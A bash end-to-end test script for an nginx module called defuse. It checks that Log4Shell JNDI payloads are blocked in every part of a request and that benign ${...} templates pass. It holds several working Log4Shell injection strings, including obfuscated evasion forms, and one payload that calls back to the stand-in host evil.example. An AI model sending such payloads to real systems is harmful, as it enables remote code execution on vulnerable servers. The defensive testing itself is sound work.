#!/usr/bin/env bash
# nginx_block.sh -- block mode end to end: Debian's nginx with the defuse
# module refuses Log4Shell payloads in every part of a request (URI, query,
# each kind of header, urlencoded/JSON/multipart/plain bodies, a body
# spilled to a temp file, chunked bodies; encoded and obfuscated forms) and
# passes benign requests, including legitimate ${...} templates.  Checks
# the JSON Lines of defuse_log and $defuse_verdict/$defuse_callback in the
# access log.
. "$DEFUSE_SRC/nginx/e2e_lib.bash"
ngx_init

echo hello >"$T/html/index.html"
BACKEND=$(ngx_free_port)
H2=$(ngx_free_port)
ngx_conf "
    server {
        listen 127.0.0.1:@PORT@;
        root @T@/html;
        defuse on;
        defuse_log @T@/logs/defuse.jsonl;
        defuse_body_limit 512k;
        client_body_buffer_size 1k;
        client_max_body_size 4m;
        location = /api { return 200 'api-ok'; }
        location = /echo { client_body_buffer_size 64k; return 200 '[\$request_body]'; }
        location = /proxy { proxy_pass http://127.0.0.1:$BACKEND/; }
        location /legal/ { defuse_status 451; return 200 'legal-ok'; }
        location /close/ { defuse_status 444; return 200 'close-ok'; }
    }
    server {
        listen 127.0.0.1:$H2 http2;
        defuse on;
        client_body_buffer_size 1k;
        location = /api { return 200 'h2-ok'; }
    }
    server {
        listen 127.0.0.1:$BACKEND;
        # detect mode here only to have the body read before 'return'
        location / { defuse on; defuse_mode detect; client_body_buffer_size 64k;
                     return 200 '[\$request_body]'; }
    }"
ngx_start || { fail "nginx did not start"; ngx_finish; exit 1; }

enc() { python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "$1"; }
b64() { printf '%s' "$1" | base64 -w0; }

P1='${jndi:ldap://127.0.0.1:1389/a}'
P2='${${lower:j}ndi:${lower:l}dap://127.0.0.1:1389/b}'
P3='${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://127.0.0.1:1099/c}'
P4='${jndi:dns://127.0.0.1/d}'
P5='${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//127.0.0.1:1389/e}'
P6='${j${k8s:k5:-ND}i${sd:k5:-:}ldap://127.0.0.1:1389/f}'

echo "--- request line"
expect 403 "payload raw in the query" "/?q=$P1"
expect 403 "payload percent-encoded in the query" "/?q=$(enc "$P1")"
expect 403 "payload double percent-encoded in the query" "/?q=$(enc "$(enc "$P2")")"
expect 403 "payload percent-encoded in the path" "/a/$(enc "$P3")/x"
expect 403 "payload raw in the path" "/b/\${jndi:ldap:%2F%2F127.0.0.1:1389%2Fg}"
expect 403 "obfuscated payload (env defaults) in the query" "/?x=$(enc "$P5")"
expect 403 "payload in a HEAD request" "/?q=$(enc "$P4")" -I

echo "--- headers"
expect 403 "User-Agent" / -A "$P1"
expect 403 "X-Api-Version" / -H "X-Api-Version: $P2"
expect 403 "Referer" / -e "https://example.com/$P3"
expect 403 "Cookie" / -b "session=abc; theme=$(enc "$P4")"
expect 403 "Authorization: Basic base64(payload:pw)" / -H "Authorization: Basic $(b64 "$P1:pw")"
expect 403 "X-Forwarded-For" / -H "X-Forwarded-For: $P6"
expect 403 "custom header, lower-case obfuscation" / -H "X-Custom: $P2"
# Headers longer than client_header_buffer_size (1k) move to large header
# buffers: a payload before, inside and after such a header.
LONG=$(python3 -c "print('v' * 3000)")
expect 403 "payload in a header before a 3 KB header" / -H "X-First: $P1" -H "X-Long: $LONG"
expect 403 "payload at the end of a 3 KB header" / -H "X-Long: $LONG$P4"
expect 403 "payload after a 3 KB header" / -H "X-Long: $LONG" -H "X-Last: $P2"
expect 200 "benign 3 KB header" / -H "X-Long: $LONG" -H "X-Other: plain"

echo "--- bodies"
expect 403 "urlencoded form" /api --data-urlencode "user=$P1" --data-urlencode "pw=x"
expect 403 "form with '+' for spaces" /api --data "comment=hello+world+$(enc "$P3")"
expect 403 "JSON body" /api -H 'Content-Type: application/json' --data "{\"user\": \"$P2\"}"
expect 403 "JSON body with \\u0024 escapes" /api -H 'Content-Type: application/json' \
    --data '{"user": "\u0024{jndi:ldap://127.0.0.1:1389/h}"}'
expect 403 "multipart field" /api -F "name=$P4" -F "note=hi"
printf 'line one\n%s\nline three\n' "$P5" >"$T/upload.txt"
expect 403 "multipart file upload" /api -F "file=@$T/upload.txt;type=text/plain"
expect 403 "plain text body" /api -H 'Content-Type: text/plain' --data-binary "note: $P6"
python3 -c "import sys; sys.stdout.write('A' * 300000 + ' ' + sys.argv[1] + '\n')" "$P1" >"$T/big.txt"
python3 -c "import sys; sys.stdout.write('benign text, price \$5, template \${user.name}\n' * 8000)" >"$T/bigok.txt"
expect 403 "large body spilled to a temp file (payload at 300 KB)" /api --data-binary "@$T/big.txt"
if grep -q 'buffered to a temporary file' "$T/logs/error.log"; then
    pass "the large body was really spilled to disk"
else
    fail "the large body was not spilled to disk (test does not test that)"
fi
expect 403 "chunked body" /api -H 'Transfer-Encoding: chunked' --data-binary "x=1&y=$(enc "$P2")"
expect 403 "chunked large body" /api -H 'Transfer-Encoding: chunked' --data-binary "@$T/big.txt"
expect 403 "body of a PUT" /api -X PUT --data-binary "$P3"
expect 403 "body through proxy_pass" /proxy --data-binary "v=$P4"

echo "--- HTTP/2 (cleartext, prior knowledge)"
h2() { # CODE DESC CURL-ARGS...
    local want=$1 desc=$2 got; shift 2
    got=$(curl -g -s -o /dev/null -w '%{http_code} %{http_version}' --max-time 10 --http2-prior-knowledge \
          "$@" "http://127.0.0.1:$H2/api")
    [ "$got" = "$want 2" ] && pass "HTTP/2: $desc ($got)" || fail "HTTP/2: $desc: got '$got', want '$want 2'"
}
h2 200 "benign body" --data-binary 'a=1&b=2'
h2 403 "payload in a header" -A "$P1"
h2 403 "payload in a body with content-length" --data-binary "x=$(enc "$P3")"
h2 403 "payload in a streamed body without content-length" -H 'Content-Length:' --data-binary "@$T/big.txt"
h2 200 "benign streamed body without content-length" -H 'Content-Length:' --data-binary "@$T/bigok.txt"

echo "--- defuse_status"
expect 451 "defuse_status 451" "/legal/?q=$(enc "$P1")"
expect 000 "defuse_status 444 closes the connection" "/close/?q=$(enc "$P1")"

echo "--- benign"
expect 200 "plain GET" /
expect 200 "\${HOME} in the query" "/?path=$(enc '${HOME}/bin')"
expect 200 "\${user.name} in a JSON body" /api -H 'Content-Type: application/json' \
    --data '{"greeting": "Hello ${user.name}", "tpl": "${HOME}/x", "price": "$5"}'
expect 200 "template words in a form" /api --data-urlencode 'q=jndi ldap://ldap.corp:389 ${PATH}'
expect 200 "benign Basic credentials" / -H "Authorization: Basic $(b64 'alice:s3cret')"
expect 200 "benign cookie" / -b 'session=0123456789abcdef; lang=en'
expect 200 "benign multipart" /api -F "name=alice" -F "file=@$DEFUSE_SRC/nginx/config"
expect 200 "large benign body spilled to disk" /api --data-binary "@$T/bigok.txt"
expect 200 "chunked benign body" /api -H 'Transfer-Encoding: chunked' --data-binary "@$T/bigok.txt"
# The body read by the module is still there for the content phase.
expect 200 "request body preserved for the handler" /echo --data-binary 'a=1&b=two'
if [ "$(cat "$T/body.out")" = "[a=1&b=two]" ]; then pass "handler saw the body"; else
    fail "handler saw [$(cat "$T/body.out")], want [a=1&b=two]"; fi
expect 200 "request body preserved through proxy_pass" /proxy --data-binary 'k=v&x=y'
if [ "$(cat "$T/body.out")" = "[k=v&x=y]" ]; then pass "upstream saw the body"; else
    fail "upstream saw [$(cat "$T/body.out")], want [k=v&x=y]"; fi
# A body past defuse_body_limit (512k) is refused in block mode
# (defuse_body_overflow block by default): what is past the limit was not
# inspected.  Benign or not, it is marked partial.
python3 -c "import sys; sys.stdout.write('B' * 600000 + sys.argv[1])" "$P1" >"$T/past.txt"
expect 413 "payload past defuse_body_limit: refused (413)" "/api?past=1" --data-binary "@$T/past.txt"
python3 -c "import sys; sys.stdout.write('B' * 600000)" >"$T/pastok.txt"
expect 413 "benign body past defuse_body_limit: refused too (413)" "/api?past=2" --data-binary "@$T/pastok.txt"
# Request and finding fields stay apart: the attacked vhost is kept.
expect 403 "payload with a callback host, sent to vhost shop.example" "/api?vhost=1" \
    -H 'Host: shop.example' -A '${jndi:ldap://evil.example:1389/vhost}'
ngx_stop

echo "--- logs"
LOG=$T/logs/defuse.jsonl
if [ -s "$LOG" ]; then pass "defuse_log written ($(wc -l <"$LOG") lines)"; else fail "defuse_log empty"; fi
if grep -qF '${' "$LOG"; then fail "defuse_log holds a live \${"; else pass "no live \${ in defuse_log"; fi
python3 - "$LOG" <<'PY' && pass "defuse_log lines are JSON with finding and request fields" || fail "defuse_log content"
import json, sys
def nodup(pairs):
    keys = [k for k, _ in pairs]
    assert len(keys) == len(set(keys)), "duplicate keys in a log line: %r" % keys
    return dict(pairs)
lines = [json.loads(l, object_pairs_hook=nodup) for l in open(sys.argv[1])]
overflow = [l for l in lines if l.get("event") == "body_limit"]
lines = [l for l in lines if "event" not in l]
need = {"schema", "hostname", "defuse_version", "time", "src_ip", "request", "part", "action",
        "kind", "payload", "callback", "host"}
bad = [l for l in lines if not need <= l.keys() or not {"client", "method", "uri", "host"} <= l["request"].keys()]
assert not bad, "missing fields: %r" % (bad[0],)
assert overflow, "no body_limit line"
o = overflow[0]
assert o["partial"] is True and o["action"] == "block" and o["status"] == 413 and o["part"] == "body", o
assert o["bytes"] > o["scanned"] and o["scanned"] == 512 * 1024, o
assert o["request"]["uri"].startswith("/api?past="), o
vh = [l for l in lines if "vhost" in (l.get("callback") or "")]
assert vh and vh[0]["request"]["host"] == "shop.example" and vh[0]["host"] == "evil.example", vh
parts = {l["part"] for l in lines}
for p in ("request_line", "header:User-Agent", "header:X-Api-Version", "header:Referer",
          "header:Cookie", "header:Authorization", "body"):
    assert p in parts, "no finding logged for part %s (have %s)" % (p, sorted(parts))
assert all(l["request"]["client"] == "127.0.0.1" for l in lines)
# one vocabulary with defuse logs and the honeypot (docs/output-schemas.md)
assert all(l["src_ip"] == "127.0.0.1" and l["schema"] == 1 and l["hostname"] for l in lines), lines[0]
assert all(l["time"][-6] in "+-" or l["time"].endswith("Z") for l in lines), lines[0]["time"]
assert all(l["action"] == "block" for l in lines if l["kind"] == "jndi")
ua = [l for l in lines if l["part"] == "header:User-Agent"][0]
assert ua["kind"] == "jndi" and "1389" in ua["callback"], ua
assert ua["request"]["method"] == "GET" and ua["request"]["uri"] == "/", ua
PY
ACC=$T/logs/access.log
if grep -E '^403 "/" verdict=block callback=[^-]' "$ACC" | grep -q 1389; then
    pass "access log: \$defuse_verdict=block and \$defuse_callback (defanged) for a header payload"
else
    fail "access log lacks verdict=block with the callback"; grep '^403 "/"' "$ACC" | head -3
fi
if grep -E 'callback=.*\$\{' "$ACC"; then fail "live \${ in \$defuse_callback"; else
    pass "\$defuse_callback holds no live \${"; fi
if grep -q '^200 "/" verdict=pass callback=-$' "$ACC"; then pass "access log: benign verdict=pass"; else
    fail "access log lacks a benign verdict=pass line"; fi
if grep -q '^413 "/api?past=2" verdict=block-partial callback=-$' "$ACC"; then
    pass "access log: a body past the limit gives verdict=block-partial"
else
    fail "access log lacks verdict=block-partial for the body past the limit"; grep past= "$ACC"
fi
ngx_finish
